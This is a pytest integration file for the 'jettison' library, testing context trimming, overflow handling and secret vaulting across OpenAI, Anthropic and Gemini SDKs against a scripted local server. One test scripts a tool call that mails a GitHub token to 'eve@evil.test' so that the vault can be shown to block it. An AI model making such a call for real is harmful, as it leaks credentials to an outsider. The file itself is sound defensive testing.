"""The providers' own SDKs against a scripted server on loopback: sync, async, streaming."""

from __future__ import annotations

import asyncio
import json
import sys
from collections.abc import Callable
from typing import Any

import pytest

from canary import CANARY, found_in
from integration.frameworks import login
from integration.frameworks.programs import check_program
from integration.frameworks.server import Server, serving
from integration.frameworks.task import (
    CALLS,
    GOALS,
    SYSTEM,
    TOOLS,
    Script,
    World,
    openai_tools,
    outcome,
    page,
    parameters,
    quarter,
    window,
)  # fmt: skip
from jettison import Budget, CannotFit, ConfigError, Policy

pytest.importorskip("openai", reason="needs jettison[openai]")
pytest.importorskip("anthropic", reason="needs jettison[anthropic]")
pytest.importorskip("google.genai", reason="needs jettison[google-genai]")

import anthropic
import openai
from google import genai

from jettison.integrations.clients import session_of, wrap
from jettison.integrations.http import HEADER

BUDGET = quarter()
WINDOW = window(BUDGET)
POLICY = Policy(budget=BUDGET, counter="o200k")
Loop = Callable[[Any, World], Any]


def plain(server: Server, kind: str) -> Any:
    if kind in ("chat", "responses"):
        return openai.OpenAI(api_key="none", base_url=f"{server.url}/v1", max_retries=1)
    if kind == "anthropic":
        return anthropic.Anthropic(api_key="none", base_url=server.url, max_retries=1)
    return genai.Client(api_key="none", http_options={"base_url": server.url})


def plain_async(server: Server, kind: str) -> Any:
    if kind in ("chat", "responses"):
        return openai.AsyncOpenAI(api_key="none", base_url=f"{server.url}/v1", max_retries=1)
    return anthropic.AsyncAnthropic(api_key="none", base_url=server.url, max_retries=1)


# One agent loop for each SDK. `run` sends a request, so that it can be sync, async or a stream.


def chat(client: Any, world: World, language: str = "en", stream: bool = False) -> list[Any]:
    messages: list[Any] = [{"role": "system", "content": SYSTEM}, {"role": "user", "content": GOALS[language]}]
    while True:
        body: dict[str, Any] = {"model": "gpt-4o", "messages": messages, "tools": openai_tools()}
        if stream:
            with client.chat.completions.stream(**body) as events:
                message = events.get_final_completion().choices[0].message
        else:
            message = client.chat.completions.create(**body).choices[0].message
        messages.append(message.model_dump(exclude_none=True))
        if not message.tool_calls:
            return messages
        for call in message.tool_calls:
            answer = world.run(call.function.name, json.loads(call.function.arguments))
            messages.append({"role": "tool", "tool_call_id": call.id, "content": answer})


RESPONSES_TOOLS: Any = [
    {"type": "function", "name": name, "description": text, "parameters": parameters(name), "strict": True}
    for name, (text, _) in TOOLS.items()
]


def responses(client: Any, world: World, language: str = "en", stream: bool = False) -> list[Any]:
    items: list[Any] = [{"role": "user", "content": GOALS[language]}]
    while True:
        body: dict[str, Any] = {"model": "gpt-4o", "instructions": SYSTEM, "input": items, "tools": RESPONSES_TOOLS}
        if stream:
            with client.responses.stream(**body) as events:
                output = events.get_final_response().output
        else:
            output = client.responses.create(**body).output
        items += [item.model_dump(exclude_none=True, exclude={"parsed_arguments"}) for item in output]
        calls = [item for item in output if item.type == "function_call"]
        if not calls:
            return items
        for call in calls:
            answer = world.run(call.name, json.loads(call.arguments))
            items.append({"type": "function_call_output", "call_id": call.call_id, "output": answer})


CLAUDE_TOOLS: Any = [
    {"name": name, "description": text, "input_schema": parameters(name)} for name, (text, _) in TOOLS.items()
]


def messages(client: Any, world: World, language: str = "en", stream: bool = False) -> list[Any]:
    history: list[Any] = [{"role": "user", "content": GOALS[language]}]
    body: dict[str, Any] = {
        "model": "claude-opus-4-8", "max_tokens": 500, "system": SYSTEM, "tools": CLAUDE_TOOLS,
    }  # fmt: skip
    while True:
        if stream:
            with client.messages.stream(**body, messages=history) as events:
                answer = events.get_final_message()
        else:
            answer = client.messages.create(**body, messages=history)
        history.append({"role": "assistant", "content": [block.model_dump() for block in answer.content]})
        calls = [block for block in answer.content if block.type == "tool_use"]
        if not calls:
            return history
        results = [
            {"type": "tool_result", "tool_use_id": call.id, "content": world.run(call.name, call.input)}
            for call in calls
        ]
        history.append({"role": "user", "content": results})


def gemini(client: Any, world: World, language: str = "en", stream: bool = False) -> list[Any]:
    from google.genai import types

    declared = [
        types.FunctionDeclaration(name=name, description=text, parameters_json_schema=parameters(name))
        for name, (text, _) in TOOLS.items()
    ]
    config = types.GenerateContentConfig(
        system_instruction=SYSTEM,
        tools=[types.Tool(function_declarations=declared)],
        automatic_function_calling=types.AutomaticFunctionCallingConfig(disable=True),
    )
    contents: list[Any] = [types.Content(role="user", parts=[types.Part(text=GOALS[language])])]
    while True:
        given: dict[str, Any] = {"model": "gemini-2.5-pro", "contents": contents, "config": config}
        if stream:
            *_, answer = client.models.generate_content_stream(**given)
        else:
            answer = client.models.generate_content(**given)
        contents.append(answer.candidates[0].content)
        if not answer.function_calls:
            return contents
        results = [
            types.Part.from_function_response(name=call.name, response={"result": world.run(call.name, call.args)})
            for call in answer.function_calls
        ]
        contents.append(types.Content(role="user", parts=results))


LOOPS: dict[str, Any] = {"chat": chat, "responses": responses, "anthropic": messages, "gemini": gemini}


@pytest.fixture
def logging_in(monkeypatch: pytest.MonkeyPatch) -> None:
    """The loops above with the tools of `login`."""
    here = sys.modules[__name__]
    claude = [{"name": n, "description": text, "input_schema": login.parameters(n)} for n, (text, _) in TOOLS_.items()]
    named = [
        {"type": "function", "name": n, "description": text, "parameters": login.parameters(n), "strict": True}
        for n, (text, _) in TOOLS_.items()
    ]
    for name, value in {
        "TOOLS": TOOLS_, "SYSTEM": login.SYSTEM, "GOALS": {"en": login.GOAL}, "CLAUDE_TOOLS": claude,
        "RESPONSES_TOOLS": named, "openai_tools": login.openai_tools, "parameters": login.parameters,
    }.items():  # fmt: skip
        monkeypatch.setattr(here, name, value)


TOOLS_ = login.TOOLS


@pytest.mark.usefixtures("logging_in")
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("kind", LOOPS)
def test_a_tool_gets_the_token_that_the_provider_never_sees(kind: str, stream: bool) -> None:
    script, desk = login.LoggingIn(), login.Desk()
    with serving(script) as server:
        client = wrap(plain(server, kind), Budget(3_000), vault=login.vault())
        LOOPS[kind](client, desk, "en", stream)
        session = session_of(client)
        assert not found_in(server.seen)
    login.check(script, desk, mailed=True)
    assert session is not None
    assert [text for text in session.refusals.values() if "'send_mail'" in text]
    assert len(session.refusals) == 1


@pytest.mark.parametrize("kind", ["chat", "responses", "anthropic"])
def test_calls_are_filled_in_asynchronous_streams_too(kind: str) -> None:
    script = login.LoggingIn(step=1)  # it calls at once, with the placeholder that it reads
    said = f"Here is my token: {CANARY}"

    async def run() -> tuple[Any, Any]:
        with serving(script) as server:
            async with wrap(plain_async(server, kind), Budget(3_000), vault=login.vault()) as client:
                asked: Any = [{"role": "user", "content": said}]
                if kind == "chat":
                    async with client.chat.completions.stream(model="gpt-4o", messages=asked) as events:
                        calls = (await events.get_final_completion()).choices[0].message.tool_calls
                        given = [json.loads(call.function.arguments) for call in calls]
                elif kind == "responses":
                    async with client.responses.stream(model="gpt-4o", input=asked) as events:
                        given = [json.loads(call.arguments) for call in (await events.get_final_response()).output]
                else:
                    async with client.messages.stream(model="claude-opus-4-8", max_tokens=9, messages=asked) as events:
                        given = [call.input for call in (await events.get_final_message()).content]
                return given, server.seen

    given, seen = asyncio.run(run())
    name = "{{secret:github-token:1}}"
    assert given == [{"token": f"Bearer {CANARY}"}, {"email": "eve@evil.test", "text": f"The token: {name}"}]
    assert not found_in(seen)


def test_a_conversation_on_the_server_needs_a_name_with_a_vault() -> None:
    script = login.LoggingIn()
    with serving(script) as server:
        client = wrap(plain(server, "responses"), Budget(3_000), vault=login.vault())
        asked: Any = {"model": "gpt-4o", "input": login.GOAL, "previous_response_id": "resp_1"}
        with pytest.raises(openai.BadRequestError, match="needs a name"):
            client.responses.create(**asked)
        client.responses.create(**asked, instructions=login.SYSTEM, extra_headers={HEADER: "chat-17"})
        assert server.seen[0]["previous_response_id"] == "resp_1"
        assert not found_in(server.seen)
        assert json.dumps(server.seen).count("{{secret:password:1}}") == 2


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("kind", LOOPS)
def test_a_task_of_60_calls_is_finished_in_a_quarter_of_its_history(kind: str, stream: bool) -> None:
    script, world = Script(), World()
    with serving(script) as server:
        client = wrap(plain(server, kind), POLICY)
        history = LOOPS[kind](client, world, "ru" if stream else "en", stream)
        session = session_of(client)
    assert outcome(script, world).done, outcome(script, world)
    assert max(script.sizes) <= BUDGET * 1.25
    assert len(history) > 2 * CALLS - 1
    assert session is not None
    assert session.report is not None
    assert session.report.call == CALLS
    assert session._ratio != 1.0  # the provider's count came back
    page("plain SDK", {f"wrap(), {kind}{' streamed' if stream else ''}": outcome(script, world)})


@pytest.mark.parametrize("kind", ["chat", "anthropic"])
def test_the_same_asynchronously(kind: str) -> None:
    """An async client gives coroutines: each is run to its end, as the loop above is written once."""
    script, world = Script(), World()
    with serving(script) as server, asyncio.Runner() as runner:
        client = wrap(plain_async(server, kind), POLICY)
        LOOPS[kind](_Blocking(client, runner), world)
        runner.run(client.close())
    assert outcome(script, world).done, outcome(script, world)


def test_google_asynchronously() -> None:
    script, world = Script(), World()
    with serving(script) as server, asyncio.Runner() as runner:
        client = wrap(plain(server, "gemini"), POLICY)
        gemini(_Blocking(client.aio, runner), world)
    assert outcome(script, world).done, outcome(script, world)


class _Blocking:
    """What hangs below an async client, with its coroutines run to their end."""

    def __init__(self, inner: Any, runner: asyncio.Runner) -> None:
        self.inner, self.runner = inner, runner

    def __getattr__(self, name: str) -> Any:
        found = getattr(self.inner, name)
        return found if name.startswith("_") else _Blocking(found, self.runner)

    def __call__(self, *args: Any, **given: Any) -> Any:
        return self.runner.run(self.inner(*args, **given))


def test_async_streams_pass_through() -> None:
    script = Script()

    async def run(server: Server) -> tuple[str, Any]:
        client = wrap(plain_async(server, "chat"), POLICY)
        said = []
        for _ in range(2):
            asked: Any = [{"role": "user", "content": GOALS["en"]}]
            async for chunk in await client.chat.completions.create(model="gpt-4o", messages=asked, stream=True):
                said += [call.function.name for choice in chunk.choices for call in choice.delta.tool_calls or ()]
        await client.close()
        return said[0], session_of(client)

    with serving(script) as server:
        name, session = asyncio.run(run(server))
    assert name == "get_order"
    assert session._ratio != 1.0


def test_what_is_lost_without_it() -> None:
    rows = {}
    for name, trim in (("no trimming", None), ("newest messages that fit", 14)):
        script, world = Script(window=WINDOW), World()
        error: Exception | None = None
        with serving(script) as server:
            client = plain(server, "chat")
            try:
                chat(client if trim is None else _Windowed(client, trim), world)
            except openai.BadRequestError as raised:
                error = raised
        rows[name] = outcome(script, world, error)
    assert not any(row.done for row in rows.values())
    page("plain SDK", rows)


class _Windowed:
    """The usual trimming by hand: the system prompt and the newest messages, from a turn on."""

    def __init__(self, client: Any, size: int) -> None:
        self.chat = self.completions = self
        self.client, self.size = client, size

    def create(self, *, messages: list[Any], **given: Any) -> Any:
        tail = messages[1:][-self.size :]
        while tail and tail[0]["role"] == "tool":
            tail = tail[1:]
        return self.client.chat.completions.create(messages=[messages[0], *tail], **given)


# what passes through, and what comes back


@pytest.mark.parametrize("kind", LOOPS)
def test_the_request_is_as_it_was_when_nothing_is_evicted(kind: str) -> None:
    bodies = []
    for wrapped in (False, True):
        script, world = Script(until=15), World()
        with serving(script) as server:
            client = plain(server, kind)
            LOOPS[kind](wrap(client, 1_000_000) if wrapped else client, world)
            bodies.append((server.paths, server.seen))
    assert bodies[0] == bodies[1]


def test_a_client_that_is_wrapped_is_not_changed_and_other_requests_pass() -> None:
    with serving(Script()) as server:
        client = plain(server, "chat")
        before = client._client
        wrapped = wrap(client, 100)
        assert client._client is before
        assert wrapped._client is not before
        assert session_of(wrapped) is None
        with pytest.raises(ConfigError, match="was not wrapped"):
            session_of(client)
        long = "It rains. " * 500
        kept: list[Any] = [
            ("/other", {"messages": [{"role": "user", "content": long}]}),
            ("/threads/t1/messages", {"role": "user", "content": long}),
            ("/responses", {"previous_response_id": "r1", "input": long}),
            ("/responses", {"input": [{"type": "item_reference", "id": "m1"}, {"role": "user", "content": long}]}),
            ("/chat/completions", {"messages": []}),
        ]
        for path, body in kept:
            assert wrapped.post(path, cast_to=object, body=body) is not None
        assert server.seen == [body for _, body in kept]


@pytest.mark.parametrize("kind", LOOPS)
def test_after_an_overflow_it_tries_once_more_and_tighter(kind: str) -> None:
    script, world = Script(window=WINDOW), World()
    with serving(script) as server:
        LOOPS[kind](wrap(plain(server, kind), Policy(budget=BUDGET * 2, counter="o200k")), world)
    assert outcome(script, world).done, outcome(script, world)
    assert 1 <= script.overflows <= 2


@pytest.mark.parametrize("kind", LOOPS)
def test_when_nothing_safe_fits_the_sdks_own_error_arrives_and_nothing_is_sent(kind: str) -> None:
    errors: Any = (openai.BadRequestError, anthropic.BadRequestError, genai.errors.ClientError)
    with serving(Script()) as server:
        client = wrap(plain(server, kind), Budget(50))
        with pytest.raises(errors, match="smallest safe request needs") as raised:
            LOOPS[kind](client, World())
        assert server.seen == []
    if kind == "chat":
        assert raised.value.code == "context_length_exceeded"
        assert isinstance(raised.value.response.extensions["jettison"], CannotFit)


def test_an_overflow_that_cannot_be_mended_is_the_providers_own() -> None:
    with serving(Script(window=10)) as server:
        with pytest.raises(openai.BadRequestError, match="maximum context length is 10 tokens"):
            chat(wrap(plain(server, "chat"), BUDGET), World())
        assert len(server.seen) == 1  # nothing was left to take out


def test_conversations_are_kept_apart_by_header_or_first_message() -> None:
    with serving(Script()) as server:
        client = wrap(plain(server, "chat"), BUDGET)
        seen = []
        for header, text in (("a", "Hello ORD-1"), ("b", "Hello ORD-1"), (None, "Hello ORD-1"), (None, "Bye ORD-1")):
            headers = {HEADER: header} if header else None
            asked: Any = [{"role": "user", "content": text}]
            client.chat.completions.create(model="gpt-4o", messages=asked, extra_headers=headers)
            seen.append(session_of(client))
        assert len(set(map(id, seen))) == 4
        assert not any(HEADER in headers for headers in server.headers)


def test_an_unknown_client_is_refused() -> None:
    with pytest.raises(ConfigError, match="openai, anthropic or google-genai"):
        wrap(object(), 100)


def test_the_window_of_the_model_is_the_default() -> None:
    with serving(Script()) as server:
        client = wrap(plain(server, "chat"))
        asked: Any = [{"role": "user", "content": "ORD-1"}]
        client.chat.completions.create(model="gpt-4o", messages=asked)
        session = session_of(client)
    assert session is not None
    assert session.policy.size.window == 128_000


def test_the_program_of_the_docs_runs() -> None:
    check_program("Plain SDKs")
